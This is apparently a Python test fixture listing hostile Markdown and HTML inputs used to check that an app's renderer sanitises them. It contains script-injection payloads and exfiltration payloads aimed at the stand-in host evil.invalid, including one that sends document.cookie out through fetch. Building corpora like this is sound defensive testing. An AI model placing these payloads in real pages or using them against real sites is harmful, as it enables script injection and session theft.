"""A hostility corpus for everything the app renders as Markdown.

Script payloads set `window.__pwned` or call `alert` (a browser test watches
both); exfiltration payloads point at `evil.invalid`, a host that must never
see a request. The renderer's own unit corpus (`tests/test_rendering.py`) is
included, so one list covers both the renderer and the browser.
"""

from tests.test_rendering import HOSTILE as RENDERER_CORPUS

EVIL = "https://evil.invalid"

SCRIPT_PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1"></svg>',
    '<body onload="window.__pwned=1">',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<video><source onerror="window.__pwned=1"></video>',
    '<svg><a xlink:href="javascript:window.__pwned=1"><text y="20">x</text></a></svg>',
    '<math href="javascript:window.__pwned=1">x</math>',
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](data:text/html,<script>parent.__pwned=1</script>)",
    '<a href="javascript:window.__pwned=1">raw link</a>',
    '<form><button formaction="javascript:window.__pwned=1">go</button></form>',
    '<input autofocus onfocus="window.__pwned=1">',
    '<marquee onstart="window.__pwned=1">x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<<script>script>window.__pwned=1<</script>/script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "```\n</code></pre><script>window.__pwned=1</script>\n```",
    "`` <img src=x onerror=window.__pwned=1> ``",
    "**bold <img src=x onerror=window.__pwned=1> bold**",
    "> quote\n> <script>window.__pwned=1</script>",
    "1. <svg/onload=window.__pwned=1>\n2. two",
]

EXFILTRATION_PAYLOADS = [
    f"![secret]({EVIL}/collect?secret=SESSION_TOKEN)",
    f"![ref][img]\n\n[img]: {EVIL}/reference.png",
    f'<img src="{EVIL}/raw.png">',
    f'<img srcset="{EVIL}/srcset.png 1x">',
    f'<picture><source srcset="{EVIL}/picture.png"><img src="{EVIL}/p.png"></picture>',
    f'<video src="{EVIL}/video.mp4" autoplay></video>',
    f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'<object data="{EVIL}/object"></object>',
    f'<embed src="{EVIL}/embed">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<link rel="stylesheet" href="{EVIL}/style.css">',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<link rel="dns-prefetch" href="{EVIL}">',
    f'<style>@import url("{EVIL}/import.css");</style>',
    f'<div style="background-image:url({EVIL}/css.png)">css</div>',
    f'<table background="{EVIL}/table.png"><tr><td>x</td></tr></table>',
    f'<input type="image" src="{EVIL}/input.png">',
    f'<svg><image href="{EVIL}/svg.png" /></svg>',
    f'<a ping="{EVIL}/ping" href="https://ok.example/">ping link</a>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<base href="{EVIL}/">[relative](page)',
    f"[![nested]({EVIL}/nested.png)]({EVIL}/nested-link)",
    f"<{EVIL}/autolink>",
    f'[titled](https://ok.example/ "{EVIL}/title.png")',
    f"| table | image |\n|---|---|\n| x | ![t]({EVIL}/table-cell.png) |",
    f"- list ![l]({EVIL}/list.png)\n  - nested ![n]({EVIL}/nested-list.png)",
    f'<img src="x" onerror="fetch(\'{EVIL}/f?\'+document.cookie)">',
    "![x](//evil.invalid/protocol-relative.png)",
    f'<svg><use href="{EVIL}/sprite.svg#x"/></svg>',
]

BROWSER_CORPUS = SCRIPT_PAYLOADS + EXFILTRATION_PAYLOADS
CORPUS = BROWSER_CORPUS + RENDERER_CORPUS
